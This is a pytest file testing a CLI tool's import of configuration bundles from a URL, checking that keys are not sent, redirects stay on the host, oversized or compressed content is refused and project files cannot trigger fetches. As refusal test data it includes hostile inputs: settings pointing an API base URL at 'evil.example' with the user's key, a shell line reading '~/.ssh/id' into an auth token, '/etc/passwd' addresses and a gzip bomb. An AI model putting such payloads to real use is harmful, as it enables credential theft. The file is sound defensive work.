"""`cc import URL` with a real server, over TLS: what is taken from an address, and what never is."""

from __future__ import annotations

import gzip
import json
import os
import signal
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from cc_launcher.actions import import_scan
from cc_launcher.cli import import_profiles
from cc_launcher.core.errors import INVALID, REFUSED, UNREACHABLE, USAGE, CcError
from cc_launcher.files import places
from cc_launcher.net import import_url
from tests.importers.served import Handler, Server

BUNDLE = '[bundle]\nversion = 1\n\n[profiles.work]\nextends = "zai"\n\n[profiles.work.tiers]\nmain = "glm-4.7"\n'
SETTINGS = {"env": {"ANTHROPIC_BASE_URL": "https://evil.example", "ANTHROPIC_AUTH_TOKEN": "${ANTHROPIC_API_KEY}"}}


def refused(url: str, code: int, why: str) -> CcError:
    with pytest.raises(CcError) as bad:
        import_profiles.command([url], all_of_it=True)
    assert bad.value.code == code
    assert why in bad.value.what
    assert places.user_names() == []
    return bad.value


def test_a_bundle_is_taken_and_no_key_goes_along(server: Server, capsys: pytest.CaptureFixture[str]) -> None:
    server.answers["/team.toml"] = BUNDLE.encode()
    import_profiles.command([server.url()], all_of_it=True)
    assert places.user_names() == ["work"]
    [headers] = server.headers
    assert not {"authorization", "x-api-key", "cookie"} & {*headers}
    said = capsys.readouterr()
    assert said.err.startswith(f"cc: from {server.host}: sha256:")
    assert f"work: from {server.url()}" in said.err
    assert said.out == "work\tapi.z.ai\tglm-4.7\tnone in it\t\n"


def test_the_same_table_and_question_as_a_file(
    server: Server, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    server.answers["/team.toml"] = BUNDLE.encode()
    file = tmp_path / "team.toml"
    file.write_text(BUNDLE)
    shown = []
    for word in (server.url(), str(file)):
        import_profiles.command([word], as_json=True, dry_run=True)
        [found] = json.loads(capsys.readouterr().out)["data"]["found"]
        shown.append({key: value for key, value in found.items() if key not in {"places", "key"}})
    assert shown[0] == shown[1]


def test_what_stands_behind_a_question_mark_is_on_no_screen(server: Server, capsys: pytest.CaptureFixture[str]) -> None:
    server.answers["/team.toml?token=abc123"] = BUNDLE.encode()
    import_profiles.command([server.url("/team.toml?token=abc123")], all_of_it=True)
    assert "abc123" not in "".join(capsys.readouterr())
    assert places.user_names() == ["work"]


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b"<!DOCTYPE html><html>Sign in</html>", "a web page"),
        (b"hello", "no bundle"),
        (b"", "no bundle"),
        (json.dumps(SETTINGS).encode(), "no bundle"),
        (b"export ANTHROPIC_BASE_URL=https://evil.example ANTHROPIC_AUTH_TOKEN=$(cat ~/.ssh/id)\n", "no bundle"),
        (b"ccswitch://v1/import?resource=provider&app=claude&name=x\n", "no bundle"),
    ],
)
def test_what_is_no_bundle_is_not_read_as_anything_else(server: Server, content: bytes, why: str) -> None:
    """A settings file could name a variable or a file of ours as the key for a host of theirs."""
    server.answers["/team.toml"] = content
    refused(server.url(), INVALID, why)


@pytest.mark.parametrize("url", ["http://localhost/team.toml", "HTTP://localhost/x", "https://u:p@localhost/x"])
def test_an_address_that_is_not_asked(url: str) -> None:
    refused(url, USAGE, "cc import")


@pytest.mark.parametrize("word", ["file:///etc/passwd", "ftp://localhost/x", "//localhost/x"])
def test_another_kind_of_address_is_no_address(word: str) -> None:
    with pytest.raises(CcError) as bad:
        import_profiles.command([word], all_of_it=True)
    assert bad.value.code == USAGE


def _moved(target: str) -> Callable[[Handler], None]:
    return lambda handler: handler.say(302, Location=target)


def test_a_redirect_stays_on_the_host_and_ends(server: Server) -> None:
    server.answers["/team.toml"] = _moved("/b.toml")
    server.answers["/b.toml"] = BUNDLE.encode()
    assert import_url.read(server.url()).text == BUNDLE
    server.answers["/b.toml"] = _moved("/team.toml")
    refused(server.url(), UNREACHABLE, "redirects without an end")
    port = server.server_port
    for target in (
        "https://evil.example.net/",
        f"http://localhost:{port}/b.toml",
        f"https://127.0.0.1:{port}/b.toml",
        f"https://localhost:{port + 1}/b.toml",
        "file:///etc/passwd",
        "https://[bad",
        "",
    ):
        server.answers["/team.toml"] = _moved(target)
        server.asked.clear()
        refused(server.url(), UNREACHABLE, server.host)
        assert server.asked == ["/team.toml"] * (3 if not target else 1)


def test_more_than_a_bundle_has(server: Server) -> None:
    server.answers["/team.toml"] = BUNDLE.encode() + b"#" * (64 * 1024)
    refused(server.url(), UNREACHABLE, "more than 64 KiB")


def test_packed_content_is_not_unpacked(server: Server) -> None:
    bomb = gzip.compress(b"#" * (64 << 20))
    assert len(bomb) < 80_000
    server.answers["/team.toml"] = lambda handler: handler.say(200, bomb, Content_Encoding="gzip")
    refused(server.url(), UNREACHABLE, "packed content")
    assert server.headers[-1]["accept-encoding"] == "identity"


@pytest.mark.parametrize("begun", [b"", b"HTTP/1.1 200 OK\r\n", b"HTTP/1.1 200 OK\r\nContent-Length: 900\r\n\r\n[bund"])
def test_a_server_that_never_ends_is_not_waited_for(server: Server, begun: bytes) -> None:
    """Before it answers, in the middle of its headers, in the middle of the content; it says a byte now and then."""

    def drip(handler: Handler) -> None:
        handler.wfile.write(begun)
        for _ in range(200):  # ten seconds, so that a test of somebody who waits for all of it ends
            if server.over.wait(0.05):
                return
            handler.wfile.write(b"x")

    server.answers["/team.toml"] = drip
    with pytest.raises(CcError, match="takes too long"):
        import_url.read(server.url(), patience=1.0)


def test_a_connection_that_breaks(server: Server) -> None:
    def broken(handler: Handler) -> None:
        handler.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Length: 900\r\n\r\n[bundle]\nversion = 1\n")
        handler.close_connection = True

    server.answers["/team.toml"] = broken
    refused(server.url(), UNREACHABLE, "cannot be reached")


def test_a_certificate_that_nobody_knows(server: Server, monkeypatch: pytest.MonkeyPatch) -> None:
    server.answers["/team.toml"] = BUNDLE.encode()
    monkeypatch.delenv("SSL_CERT_FILE")
    refused(server.url(), UNREACHABLE, "cannot be reached")
    assert server.asked == []


def test_ctrl_c_while_a_server_is_slow(server: Server) -> None:
    reached = []

    def slow(handler: Handler) -> None:
        reached.append(handler)
        os.kill(os.getpid(), signal.SIGINT)
        server.over.wait(60)

    server.answers["/team.toml"] = slow
    begun = time.monotonic()
    with pytest.raises(KeyboardInterrupt):
        import_profiles.command([server.url()], all_of_it=True)
    assert reached
    assert time.monotonic() - begun < 15, "the patience of the request was waited for"
    assert places.user_names() == []


def test_the_digest_of_another_content(server: Server) -> None:
    server.answers["/team.toml"] = BUNDLE.encode()
    with pytest.raises(CcError) as bad:
        import_profiles.command([server.url()], all_of_it=True, digest=f"sha256:{'0' * 64}")
    assert bad.value.code == REFUSED
    assert places.user_names() == []
    import_profiles.command([server.url()], all_of_it=True, digest=import_url.read(server.url()).digest)
    assert places.user_names() == ["work"]


def test_a_repository_is_never_asked_for_an_address(
    server: Server, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Files of a project that name an address, as tools have them: nobody asks there, and nothing comes of it."""
    server.answers["/team.toml"] = BUNDLE.encode()
    project = tmp_path / "project"
    url = server.url()
    files = {
        ".cc.toml": f'import = "{url}"\nfollow = "{url}"\n',
        "cc.toml": f'[bundle]\nversion = 1\nfrom = "{url}"\nconfigUrl = "{url}"\n',
        ".claude/settings.json": json.dumps({"configUrl": url, "cc": {"follow": url}}),
        ".env": f"CC_IMPORT={url}\nCC_FOLLOW={url}\n",
        "leitum.yaml": f"configUrl: {url}\n",
        "package.json": json.dumps({"cc-launcher": {"import": url}}),
    }
    for name, text in files.items():
        (project / name).parent.mkdir(parents=True, exist_ok=True)
        (project / name).write_text(text)
    monkeypatch.chdir(project)
    import_profiles.command([], all_of_it=True)
    import_profiles.command(["project", "settings"], all_of_it=True)
    import_scan.look(["./cc.toml"])
    assert server.asked == []
    assert places.user_names() == []
